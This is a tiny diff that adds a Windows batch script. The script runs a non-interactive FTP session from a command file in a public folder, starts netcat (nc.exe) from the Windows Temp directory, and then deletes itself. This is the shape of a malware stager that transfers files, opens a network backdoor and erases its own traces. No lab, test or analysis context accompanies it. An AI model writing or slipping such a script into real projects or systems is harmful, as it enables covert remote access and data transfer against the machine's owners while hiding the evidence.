@@ -1,0 +1,4 @@
+@echo off
+ftp -n -s:C:\Users\Public\a.txt
+start C:\Windows\Temp\nc.exe
+del %0
